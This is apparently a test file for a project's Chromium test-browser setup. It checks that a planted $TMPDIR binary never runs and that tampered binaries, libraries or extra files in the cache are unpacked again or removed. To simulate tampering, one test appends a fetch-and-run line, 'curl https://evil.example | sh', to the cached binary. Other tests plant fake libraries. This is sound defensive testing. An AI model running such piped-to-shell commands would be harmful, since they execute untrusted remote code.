/**
 * The test browser cannot be planted: a file at `$TMPDIR/chromium` (which `@sparticuz/chromium`'s
 * own `executablePath()` would return unchecked) is never run; the browser is unpacked into a
 * folder of the project's own and checked before each use; a changed binary is unpacked again and
 * a new package version gets a new folder (tests/support/chromium.ts).
 */
import { execFileSync, spawn } from "node:child_process";
import { existsSync, statSync } from "node:fs";
import { appendFile, chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { brotliCompressSync } from "node:zlib";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { CACHE_DIR, packagedChromium } from "../support/chromium.ts";
import { ROOT, withTempDir } from "../support/build.ts";

/** Runs `script` (a module) in a new Node with `env` added; resolves with its stdout, rejects with its output. */
function node(script: string, env: Record<string, string>, cwd = ROOT): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ["--input-type=module", "-e", script], {
      cwd,
      env: { ...process.env, ...env },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let out = "";
    let err = "";
    child.stdout.on("data", (chunk) => (out += chunk));
    child.stderr.on("data", (chunk) => (err += chunk));
    child.once("close", (code) =>
      code === 0 ? resolve(out) : reject(new Error(`exit ${code}\n${out}${err}`)),
    );
  });
}

test("a file planted at $TMPDIR/chromium is never run: the browser comes from the project's own folder", async () => {
  await withTempDir("planted-tmpdir", async (tmp) => {
    const ran = path.join(tmp, "planted-ran");
    const planted = path.join(tmp, "chromium");
    await writeFile(planted, `#!/bin/sh\necho "$@" >> ${ran}\nexit 1\n`);
    await chmod(planted, 0o755);
    // The package's own lookup would hand this file to the launcher (and .ci/run to ldd).
    const theirs = await node(
      `import chromium from "@sparticuz/chromium"; console.log(await chromium.executablePath());`,
      { TMPDIR: tmp },
      path.join(ROOT, "tests"),
    );
    assert.is(theirs.trim(), planted, "@sparticuz/chromium returns the planted file");

    const script = `
      import { chromiumPath, launchChromium } from "./tests/support/browser.ts";
      const executable = await chromiumPath();
      const browser = await launchChromium({ webmcp: false });
      console.log(JSON.stringify({ executable, version: browser.version() }));
      await browser.close();`;
    const { executable, version } = JSON.parse(await node(script, { TMPDIR: tmp, CHROME_PATH: "" })) as {
      executable: string;
      version: string;
    };
    assert.is(
      path.dirname(path.dirname(executable)),
      CACHE_DIR,
      "unpacked under tests/node_modules/.cache/chromium/",
    );
    const { version: packageVersion } = JSON.parse(
      await readFile(path.join(ROOT, "tests/node_modules/@sparticuz/chromium/package.json"), "utf8"),
    );
    assert.is(
      path.basename(path.dirname(executable)),
      packageVersion,
      "in a folder named by the package version",
    );
    assert.is(
      version.split(".")[0],
      packageVersion.split(".")[0],
      "the launched browser is the package's Chromium major",
    );
    assert.not.ok(existsSync(ran), "the planted file never ran");
  });
});

/** A stand-in for @sparticuz/chromium: a package.json with `version` and a Brotli "binary". */
async function fakePackage(dir: string, version: string, binary: string): Promise<void> {
  await mkdir(path.join(dir, "bin/tree"), { recursive: true });
  await writeFile(path.join(dir, "package.json"), JSON.stringify({ version }));
  await writeFile(path.join(dir, "bin/chromium.br"), brotliCompressSync(Buffer.from(binary)));
  await writeFile(path.join(dir, "bin/tree/libGLESv2.so"), "gl");
  await writeFile(
    path.join(dir, "bin/swiftshader.tar.br"),
    brotliCompressSync(execFileSync("tar", ["-c", "-C", path.join(dir, "bin/tree"), "libGLESv2.so"])),
  );
}

/** Unpacks a fake package of version 150.0.0 into a cache of its own, in a scratch folder removed after `use`. */
async function withUnpackedFake(
  label: string,
  use: (fake: { pkg: string; cache: string; binary: string }) => Promise<void>,
): Promise<void> {
  await withTempDir(label, async (dir) => {
    const pkg = path.join(dir, "package");
    const cache = path.join(dir, "cache");
    await fakePackage(pkg, "150.0.0", "#!/bin/sh\necho 150\n");
    await use({ pkg, cache, binary: await packagedChromium(pkg, cache) });
  });
}

test(`a binary changed after unpacking is unpacked again, and a new package version replaces the old \
folder`, async () => {
  await withUnpackedFake("chromium-cache", async ({ pkg, cache, binary: first }) => {
    assert.is(first, path.join(cache, "150.0.0/chromium"));
    assert.is(await readFile(first, "utf8"), "#!/bin/sh\necho 150\n");
    assert.ok(existsSync(path.join(cache, "150.0.0/libGLESv2.so")), "SwiftShader sits beside the binary");

    await appendFile(first, "curl https://evil.example | sh\n");
    assert.is(
      await readFile(await packagedChromium(pkg, cache), "utf8"),
      "#!/bin/sh\necho 150\n",
      "the edited binary is replaced before use",
    );

    await chmod(first, 0o777);
    assert.is(
      statSync(await packagedChromium(pkg, cache)).mode & 0o022,
      0,
      "a binary others may write is replaced",
    );

    await fakePackage(pkg, "151.0.0", "#!/bin/sh\necho 151\n");
    const upgraded = await packagedChromium(pkg, cache);
    assert.is(upgraded, path.join(cache, "151.0.0/chromium"));
    assert.is(await readFile(upgraded, "utf8"), "#!/bin/sh\necho 151\n");
    assert.not.ok(existsSync(path.join(cache, "150.0.0")), "the former version's folder is removed");
  });
});

test(`every unpacked file is checked against the package, not only the binary: a changed library or a \
planted file is unpacked again`, async () => {
  await withUnpackedFake("chromium-files", async ({ pkg, cache, binary }) => {
    const folder = path.dirname(binary);

    // A library Chromium loads, changed in place.
    await writeFile(path.join(folder, "libGLESv2.so"), "planted gl");
    assert.is(await packagedChromium(pkg, cache), binary);
    assert.is(
      await readFile(path.join(folder, "libGLESv2.so"), "utf8"),
      "gl",
      "the changed library is unpacked again from the package",
    );
    // A manifest of checksums beside the files vouches for nothing, and is itself a file too many.
    await writeFile(path.join(folder, "libGLESv2.so"), "planted gl");
    await writeFile(path.join(folder, "manifest.json"), JSON.stringify({ "libGLESv2.so": "planted" }));
    await packagedChromium(pkg, cache);
    assert.is(
      await readFile(path.join(folder, "libGLESv2.so"), "utf8"),
      "gl",
      "the library is unpacked again",
    );
    assert.not.ok(existsSync(path.join(folder, "manifest.json")), "the planted manifest is gone");

    // A library added beside the binary (Chromium would load a planted libEGL.so from its folder).
    await writeFile(path.join(folder, "libEGL.so"), "planted");
    await packagedChromium(pkg, cache);
    assert.not.ok(existsSync(path.join(folder, "libEGL.so")), "a file the package does not hold is removed");
    // Chromium's own empty locales folder is expected; a file in it is not.
    await mkdir(path.join(folder, "locales"));
    await packagedChromium(pkg, cache);
    assert.ok(
      existsSync(path.join(folder, "locales")),
      "the browser is not unpacked again for its own empty locales/ folder",
    );
    await writeFile(path.join(folder, "locales/en-US.pak"), "planted");
    await packagedChromium(pkg, cache);
    assert.not.ok(
      existsSync(path.join(folder, "locales/en-US.pak")),
      "a file planted in locales/ is removed",
    );
  });
});

test.run();
